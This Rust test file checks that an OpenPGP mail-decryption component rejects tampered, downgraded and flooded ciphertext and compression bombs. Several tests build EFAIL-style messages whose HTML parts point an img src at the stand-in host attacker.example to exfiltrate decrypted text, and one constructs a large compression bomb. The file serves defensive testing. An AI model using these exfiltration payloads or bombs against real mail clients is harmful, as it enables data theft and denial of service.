//! Ciphertext that was tampered with, wrapped, or made to cost (threats.md A1, D4, E).

use std::io::Write;
use std::time::{Duration, Instant};

use sequoia_openpgp::packet::{Body, SEIP};
use sequoia_openpgp::parse::Parse;
use sequoia_openpgp::serialize::Serialize;
use sequoia_openpgp::serialize::stream::{Compressor, Encryptor, Message};
use sequoia_openpgp::types::{CompressionAlgorithm, CompressionLevel};
use sequoia_openpgp::{Packet, PacketPile};

use crate::made::*;

pub fn mdc_message() -> Vec<u8> {
    encrypted_around(false, |message| literal(message, entity().as_bytes()))
}

pub fn aead_message() -> Vec<u8> {
    encrypted_around(true, |message| literal(message, entity().as_bytes()))
}

pub fn wrapped(binary: &[u8]) -> Vec<u8> {
    pgp_mime(&armored(binary))
}

/// A packet with a five-octet length (RFC 9580 section 4.2.1.3).
pub fn packet(tag: u8, body: &[u8]) -> Vec<u8> {
    let length = u32::try_from(body.len()).unwrap().to_be_bytes();
    [[0xC0 | tag, 0xFF].as_slice(), &length, body].concat()
}

/// The session key packets, and the body of the container, version octet included for SEIPDv1.
pub fn taken_apart(message: &[u8]) -> (Vec<u8>, Vec<u8>) {
    let (mut session_keys, mut container) = (Vec::new(), Vec::new());
    for packet in PacketPile::from_bytes(message).unwrap().into_children() {
        match packet {
            Packet::SEIP(SEIP::V1(seip)) => {
                let Body::Unprocessed(body) = seip.body() else {
                    panic!("opened without a key")
                };
                container.push(1);
                container.extend_from_slice(body);
            }
            other => other.serialize(&mut session_keys).unwrap(),
        }
    }
    (session_keys, container)
}

#[test]
fn unharmed_messages_open() {
    for binary in [mdc_message(), aead_message()] {
        assert!(reading(&wrapped(&binary)).openpgp.decrypted);
        assert!(text(&reading(&wrapped(&binary))).contains(CANARY));
    }
    let (session_keys, container) = taken_apart(&mdc_message());
    let again = [session_keys, packet(18, &container)].concat();
    assert!(reading(&wrapped(&again)).openpgp.decrypted);
}

#[test]
fn any_flipped_octet_closes_the_message() {
    for binary in [mdc_message(), aead_message()] {
        let (session_keys, _) = match binary.len() {
            0 => panic!("empty"),
            length => (length / 3, length),
        };
        for at in session_keys..binary.len() {
            let mut harmed = binary.clone();
            harmed[at] ^= 0x04;
            assert_closed(&wrapped(&harmed), None);
        }
    }
}

#[test]
fn any_truncation_closes_the_message() {
    for binary in [mdc_message(), aead_message()] {
        for length in (0..binary.len()).step_by(7) {
            assert_closed(&wrapped(&binary[..length]), None);
        }
    }
}

#[test]
fn integrity_code_taken_off() {
    let (session_keys, container) = taken_apart(&mdc_message());
    for cut in [20, 22, 30] {
        let shorter = &container[..container.len() - cut];
        let stripped = [session_keys.clone(), packet(18, shorter)].concat();
        assert_closed(&wrapped(&stripped), Some("damaged"));
    }
}

#[test]
fn downgraded_to_a_packet_without_integrity() {
    let (session_keys, container) = taken_apart(&mdc_message());
    for body in [&container[1..], &container[1..container.len() - 22]] {
        let downgraded = [session_keys.clone(), packet(9, body)].concat();
        assert_closed(&wrapped(&downgraded), Some("unsupported"));
    }
}

#[test]
fn librepgp_is_named_unsupported() {
    let (session_keys, container) = taken_apart(&mdc_message());
    let ocb = [session_keys, packet(20, &container)].concat();
    assert_closed(&wrapped(&ocb), Some("unsupported"));
}

#[test]
fn session_key_floods_are_refused_at_once() {
    let (session_keys, container) = taken_apart(&mdc_message());
    let flood = [session_keys.repeat(10_000), packet(18, &container)].concat();
    assert_closed(&wrapped(&flood), Some("too_many_packets"));
    let sixteen = [session_keys.repeat(16), packet(18, &container)].concat();
    assert!(reading(&wrapped(&sixteen)).openpgp.decrypted);
}

#[test]
fn passphrases_are_never_tried() {
    let mut binary = Vec::new();
    let message = Encryptor::with_passwords(Message::new(&mut binary), Some("123456")).build();
    literal(message.unwrap(), entity().as_bytes()).unwrap();
    assert_closed(&wrapped(&binary), Some("unsupported"));
}

#[test]
fn no_key_of_ours() {
    let other = made("Other <other@peer.example>");
    let to = [other.public.as_bytes()];
    let message = intake::openpgp::encrypt(&keys_of(noc()), entity().as_bytes(), &to, true, now());
    assert_closed(&pgp_mime(&message.unwrap()), Some("no_key"));
}

#[test]
fn compression_bomb_expands() {
    let start = Instant::now();
    let bomb = encrypted_around(false, |message| {
        let message = Compressor::new(message)
            .algo(CompressionAlgorithm::Zip)
            .level(CompressionLevel::fastest())
            .build()?;
        let mut writer = sequoia_openpgp::serialize::stream::LiteralWriter::new(message).build()?;
        writer.write_all(CANARY.as_bytes())?;
        for _ in 0..200 {
            writer.write_all(&[b'a'; 1024 * 1024])?;
        }
        writer.finalize()
    });
    let made = start.elapsed();
    assert!(bomb.len() < 2 * 1024 * 1024);
    assert_closed(&wrapped(&bomb), Some("expands"));
    assert!(
        start.elapsed() - made < Duration::from_secs(20),
        "{:?}",
        start.elapsed()
    );
}

#[test]
fn compressed_in_compressed_expands() {
    let nested = encrypted_around(false, |message| {
        let message = Compressor::new(message)
            .algo(CompressionAlgorithm::Zip)
            .build()?;
        let message = Compressor::new(message)
            .algo(CompressionAlgorithm::Zip)
            .build()?;
        literal(message, entity().as_bytes())
    });
    assert_closed(&wrapped(&nested), Some("expands"));
    let once = encrypted_around(false, |message| {
        let message = Compressor::new(message)
            .algo(CompressionAlgorithm::Zip)
            .build()?;
        literal(signer(message), entity().as_bytes())
    });
    assert!(reading(&wrapped(&once)).openpgp.decrypted);
}

#[test]
fn compressed_filler_beside_the_text_is_not_read() {
    let start = Instant::now();
    let filler = encrypted_around(false, |message| {
        let message = Compressor::new(message)
            .algo(CompressionAlgorithm::Zip)
            .build()?;
        let mut writer = sequoia_openpgp::serialize::stream::ArbitraryWriter::new(
            message,
            sequoia_openpgp::packet::Tag::Padding,
        )?;
        for _ in 0..64 {
            writer.write_all(&[0; 1024 * 1024])?;
        }
        writer.finalize()
    });
    let made = start.elapsed();
    assert_closed(&wrapped(&filler), None);
    assert!(start.elapsed() - made < Duration::from_secs(5));
}

/// RFC 9580 section 10.3 allows more than we take (T27).
#[test]
fn structures_that_are_not_ours() {
    let nested = encrypted_around(false, |mut message| {
        message.write_all(&mdc_message())?;
        message.finalize()
    });
    assert_closed(&wrapped(&nested), Some("malformed"));
    let two_literals = encrypted_around(false, |mut message| {
        let one = packet(11, b"b\0\0\0\0\0canary-7f3a9c");
        message.write_all(&one)?;
        message.write_all(&one)?;
        message.finalize()
    });
    assert_closed(&wrapped(&two_literals), None);
    let compressed_signed = encrypted_around(false, |message| {
        let message = Compressor::new(signer(message)).build()?;
        literal(message, entity().as_bytes())
    });
    assert_closed(&wrapped(&compressed_signed), Some("malformed"));
    let bzip2 = encrypted_around(false, |mut message| {
        message.write_all(&packet(8, b"\x03BZh91AY&SY"))?;
        message.finalize()
    });
    assert_closed(&wrapped(&bzip2), Some("unsupported"));
    let garbled = wrapped(&[0xa3, 0x01, 0x5b, 0xff]);
    assert_closed(&garbled, None);
}

fn ciphertext_part() -> String {
    pgp_mime_entity(&sealed(&entity()))
}

#[test]
fn ciphertext_wrapped_by_a_stranger_stays_closed() {
    let html = "Content-Type: text/html\r\n\r\n<img src=\"http://attacker.example/";
    let inline = format!("Content-Type: text/plain\r\n\r\n{}", sealed(CANARY));
    for kind in ["mixed", "related", "alternative"] {
        for ciphertext in [ciphertext_part(), inline.clone()] {
            for order in [
                format!("--w\r\n{html}\r\n--w\r\n{ciphertext}\r\n--w--\r\n"),
                format!("--w\r\n{ciphertext}\r\n--w\r\n{html}\r\n--w--\r\n"),
            ] {
                let raw = mail(&format!(
                    "Content-Type: multipart/{kind}; boundary=w\r\n\r\n{order}"
                ));
                assert_closed(&raw, None);
                let openpgp = reading(&raw).openpgp;
                assert_eq!(openpgp.errant.len(), 1, "{openpgp:?}");
                assert_eq!(openpgp.error.as_deref(), Some("errant"));
                assert!(openpgp.layers.is_empty() && openpgp.errant[0].ciphertext.is_some());
            }
        }
    }
}

#[test]
fn ciphertext_elsewhere_stays_closed() {
    let inline = format!("Content-Type: text/plain\r\n\r\n{}", sealed(CANARY));
    let quoted = mail(&format!(
        "Content-Type: text/plain\r\n\r\nhello\r\n{}\r\n",
        sealed(CANARY)
    ));
    assert_closed(&quoted, None);
    let html = mail(&format!(
        "Content-Type: text/html\r\n\r\n<img src=\"http://attacker.example/{}\">",
        sealed(CANARY)
    ));
    assert_closed(&html, None);
    for forwarded in [ciphertext_part(), inline] {
        let raw = mail(&format!(
            "Content-Type: multipart/mixed; boundary=w\r\n\r\n--w\r\nContent-Type: text/plain\r\n\r\nsee\r\n\
             --w\r\nContent-Type: message/rfc822\r\n\r\nSubject: x\r\n{forwarded}\r\n--w--\r\n"
        ));
        assert_closed(&raw, None);
    }
    let third = ciphertext_part().replace(
        "\r\n--enc--",
        "\r\n--enc\r\nContent-Type: text/html\r\n\r\n<b>\r\n--enc--",
    );
    assert_closed(&mail(&third), None);
}

/// RUSTSEC-2025-0136: a wrapped session key of any length must not end the process.
#[test]
pub fn wrapped_session_keys_of_odd_length() {
    use sequoia_openpgp::crypto::mpi::Ciphertext;
    use sequoia_openpgp::packet::PKESK;
    let (session_keys, container) = taken_apart(&mdc_message());
    let Packet::PKESK(PKESK::V3(mut pkesk)) = Packet::from_bytes(&session_keys).unwrap() else {
        panic!("another version")
    };
    let Ciphertext::ECDH { e, .. } = pkesk.esk().clone() else {
        panic!("another algorithm")
    };
    for length in 0..=40 {
        let key = vec![7; length].into_boxed_slice();
        pkesk.set_esk(Ciphertext::ECDH { e: e.clone(), key });
        let mut message = Vec::new();
        Packet::from(PKESK::V3(pkesk.clone()))
            .serialize(&mut message)
            .unwrap();
        message.extend_from_slice(&packet(18, &container));
        assert_closed(&wrapped(&message), Some("damaged"));
    }
}
